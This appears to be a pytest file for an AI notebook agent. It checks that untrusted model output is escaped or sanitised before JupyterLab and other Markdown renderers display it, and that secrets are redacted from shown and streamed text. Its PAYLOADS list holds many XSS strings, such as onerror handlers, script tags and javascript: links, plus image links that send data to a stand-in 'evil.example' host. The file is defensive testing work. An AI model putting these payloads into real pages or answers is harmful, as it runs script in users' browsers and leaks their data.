"""Untrusted text reaching a screen (``jupyter_agent.render``): a payload corpus through each
renderer, and the result rendered by real Markdown renderers with HTML enabled (as
JupyterLab renders the outputs of its own session): markdown-it-py (CommonMark), mistune,
and, when the labextension's node_modules are there, marked (the renderer JupyterLab uses)."""

from __future__ import annotations

import html
import json
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from jupyter_agent.redact import redact_partial
from jupyter_agent.render.html import html_text, inline_html, sanitize_html
from jupyter_agent.render.invisible import has_invisible, mark_invisible
from jupyter_agent.render.markdown import (
    markdown_code,
    markdown_fence,
    markdown_from_model,
    markdown_literal,
)
from jupyter_agent.render.terminal import terminal_text
from tests.programs import system_program

ONERROR = "window.pwned=1"
#: Markup a hostile model (or a file it read) may put in its answer.
PAYLOADS = [
    f"<img src=x onerror={ONERROR}>",
    f'<img src="x" onerror="{ONERROR}">',
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert(1)>x</details>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- c --><img src=x onerror=alert(1)>",
    "<div>\n*x*\n</div>",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](\njavascript:alert(1))",
    "<javascript:alert(1)>",
    "[r][ref]\n\n[ref]: javascript:alert(1)",
    "[r][ref]\n\n[ref]:\n  javascript:alert(1)",
    "![x](https://evil.example/steal?d=secret)",
    "![x][i]\n\n[i]: https://evil.example/x.png",
    f"- item <img src=x onerror={ONERROR}>",
    f"> quote <img src=x onerror={ONERROR}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={ONERROR}> | x |",
    f"| `a | <img src=x onerror={ONERROR}> | b` |\n|---|---|---|",
    f"`<img src=x onerror={ONERROR}>",
    f"`a\n\n<img src=x onerror={ONERROR}>\n\n`",
    f"\\`<img src=x onerror={ONERROR}>\\`",
    f"[a](`x) <img src=x onerror={ONERROR}> `)",
    f'<a href="`">`<img src=x onerror={ONERROR}>`',
    f"- item\n  ```\n<img src=x onerror={ONERROR}>\n  ```",
    f"1. step\n   ```python\n   x = 1\n<img src=x onerror={ONERROR}>\n   ```",
    f"``` a`b\n<img src=x onerror={ONERROR}>\n```",
    f"    ```\n<img src=x onerror={ONERROR}>",
    f"> ```\n<img src=x onerror={ONERROR}>\n> ```",
    f"\t```\n<img src=x onerror={ONERROR}>\n```",
    f"a\r\n```\r\n<img src=x onerror={ONERROR}>",
    f"text\n      ```\n      <img src=x onerror={ONERROR}>",
    f"```\n<img src=x onerror={ONERROR}>\n ````` \n<img src=y onerror={ONERROR}>",
    f"~~~\n~~~~~ x\n<img src=x onerror={ONERROR}>",
    "```\nunclosed <script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$",
]

#: Tags Markdown itself produces; anything else in the rendered HTML came from the payload.
MARKDOWN_TAGS = {"p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
                 "table", "thead", "tbody", "tr", "th", "td", "blockquote", "hr", "br", "del", "s", "input"}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def live_markup(rendered: str) -> list[str]:
    """What in ``rendered`` HTML is not plain Markdown output: unknown elements, event
    handlers, styles, sources, links that are not http(s), mailto, relative or ``#``."""
    parser = _Elements()
    parser.feed(rendered)
    problems = []
    for tag, attrs in parser.tags:
        if tag not in MARKDOWN_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("style", "src", "srcdoc", "formaction"):
                problems.append(f"{tag} {name}={value!r}")
            if name == "href":
                target = (value or "").strip().lower()
                if ":" in target.split("/")[0] and not target.startswith(("http:", "https:", "mailto:")):
                    problems.append(f"href={value!r}")
    return problems


def _markdown_it(text: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def _mistune(text: str) -> str:
    mistune = pytest.importorskip("mistune")
    return mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])(text)



MARKED = Path(__file__).resolve().parents[1] / "labextension" / "node_modules" / "marked"


def _marked_all(texts: list[str]) -> list[str]:
    """``texts`` rendered by marked with GFM, as JupyterLab's Markdown renderer does."""
    node = system_program("node")
    if not (node and (MARKED / "package.json").exists()):
        pytest.skip("marked (labextension/node_modules) or node is not here")
    script = ("const {marked} = require(process.argv[1]); let s='';process.stdin.on('data',d=>s+=d);"
              "process.stdin.on('end',()=>{const t=JSON.parse(s);"
              "process.stdout.write(JSON.stringify(t.map(x=>marked.parse(x,{gfm:true}))));});")
    done = subprocess.run([node, "-e", script, str(MARKED)], input=json.dumps(texts), capture_output=True,
                          text=True, timeout=60, check=True)
    return json.loads(done.stdout)


RENDERERS = [_markdown_it, _mistune]


@pytest.mark.parametrize("render", RENDERERS, ids=["markdown-it", "mistune"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup_in_markdown(payload, render):
    assert live_markup(render(markdown_from_model(payload))) == []
    # nor does it reach into our own markup that follows it (an unclosed fence is closed)
    after = render(markdown_from_model(payload) + "\n\n<details><summary>ours</summary>\n\nx\n\n</details>")
    assert "<summary>ours</summary>" in after


@pytest.mark.parametrize("render", RENDERERS, ids=["markdown-it", "mistune"])
def test_the_corpus_is_live_markup_when_not_escaped(render):
    assert sum(1 for p in PAYLOADS if live_markup(render(p))) >= 10


def test_no_payload_becomes_markup_in_marked():
    rendered = _marked_all([markdown_from_model(p) for p in PAYLOADS])
    raw = _marked_all(PAYLOADS)
    assert sum(1 for r in raw if live_markup(r)) > 20  # marked does render them raw
    for payload, page in zip(PAYLOADS, rendered):
        assert live_markup(page) == [], (payload, page)


def test_the_models_formatting_still_renders():
    text = ("# Title\n\nSome **bold**, *em* and `x < y && z`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "```python\nif a < b and c & d:\n    pass\n```\n\nSee [the docs](https://example.com/a?b=1&c=2).")
    page = _markdown_it(markdown_from_model(text))
    assert "<h1>Title</h1>" in page and "<strong>bold</strong>" in page and "<em>em</em>" in page
    assert "<code>x &lt; y &amp;&amp; z</code>" in page
    assert "<li>one</li>" in page and "<table>" in page and "<td>1</td>" in page
    assert '<pre><code class="language-python">if a &lt; b and c &amp; d:' in page
    assert '<a href="https://example.com/a?b=1&amp;c=2">the docs</a>' in page
    assert "a &lt; b and c &amp; d" in _markdown_it(markdown_from_model("a < b and c & d"))


def test_an_image_is_a_link_and_a_bad_target_goes_nowhere():
    page = _markdown_it(markdown_from_model("![chart](https://evil.example/x.png?d=1) [x](javascript:alert(1))"))
    assert "<img" not in page and 'href="https://evil.example/x.png?d=1"' in page
    assert "javascript:" not in page


def test_literal_text_is_shown_as_it_is():
    text = "a <b> *c* `d` & [e](f) # not a heading\n- not a list"
    page = _markdown_it(markdown_literal(text))
    assert live_markup(page) == [] and "<em>" not in page and "<code>" not in page and "<li>" not in page
    assert "a &lt;b&gt; *c* `d` &amp; [e](f) # not a heading" in page.replace("\n", " ")
    assert _markdown_it(markdown_code("x <y> `z`")) == "<p><code>x &lt;y&gt; `z`</code></p>\n"
    assert markdown_literal("Check ANTHROPIC_API_KEY, _not_ this.") == "Check ANTHROPIC_API_KEY, \\_not\\_ this."
    assert markdown_literal("1. a\n- b") == "1\\. a\n\\- b"


def test_a_fence_keeps_its_text_literal_and_marks_invisible_characters():
    block = markdown_fence("a ``` b\n```\n<img src=x>\u202e")
    page = _markdown_it(block + "\n\nafter")
    assert live_markup(page) == [] and "⟦U+202E⟧" in page and "<p>after</p>" in page


def test_html_text_escapes_and_marks():
    assert html_text('<img src=x onerror="a">') == "&lt;img src=x onerror=&quot;a&quot;&gt;"
    assert inline_html("a\nb\u200b") == "a⏎b⟦U+200B⟧"


def test_sanitize_html_keeps_a_whitelist():
    dirty = ('<b onclick="x()">bold</b><script>alert(1)</script><style>*{}</style><img src=x onerror=y>'
             '<a href="javascript:alert(1)">j</a><a href="https://ok.example">ok</a><details ontoggle=z>d</details>')
    clean = sanitize_html(dirty)
    assert clean == ('<b>bold</b><a>j</a><a href="https://ok.example">ok</a><details>d</details>')


def test_terminal_text_shows_controls_as_signs():
    shown = terminal_text("a\x1b[2J\x1b[3Jb\rc\x9b31m\x07\x7f\td\ne\u202e")
    assert shown == "a␛[2J␛[3Jb␍c⟦U+009B⟧31m␇␡\td\ne⟦U+202E⟧"
    assert not any(ord(c) < 0x20 and c not in "\n\t" for c in shown)


def test_invisible_and_reordering_characters_are_marked():
    text = "x = 1 \u202e# comment\u2066\u2069 \u200b\u200f\u2060\ufeff"
    assert has_invisible(text) and not has_invisible(mark_invisible(text))
    assert mark_invisible(text) == "x = 1 ⟦U+202E⟧# comment⟦U+2066⟧⟦U+2069⟧ ⟦U+200B⟧⟦U+200F⟧⟦U+2060⟧⟦U+FEFF⟧"


def test_every_renderer_redacts_before_escaping(monkeypatch):
    secret = "s3cr3t-" + "A-b_C" * 4
    monkeypatch.setenv("SERVICE_TOKEN", secret)
    for render in (markdown_from_model, markdown_literal, markdown_code, markdown_fence, html_text,
                   terminal_text, inline_html, sanitize_html):
        shown = html.unescape(render(f"key: {secret}")).replace("\\", "")
        assert "[redacted SERVICE_TOKEN]" in shown and "A-b_C" not in shown, render


@pytest.mark.parametrize("secret_env", [True, False])
def test_streamed_text_never_shows_the_start_of_a_secret(monkeypatch, secret_env):
    secret = "ghp_R3dT3amS3cr3tV4lu3xyz" if secret_env else "sk-ant-api03-" + "Q" * 30
    if secret_env:
        monkeypatch.setenv("GITHUB_TOKEN", secret)
    answer = f"Your token is {secret} and Authorization: Bearer abcdefgh12345678 ok, done."
    for end in range(len(answer) + 1):
        shown = redact_partial(answer[:end])
        assert secret[:6] not in shown and "abcdefgh" not in shown, (end, shown)
    assert redact_partial(answer, done=True).endswith("ok, done.")
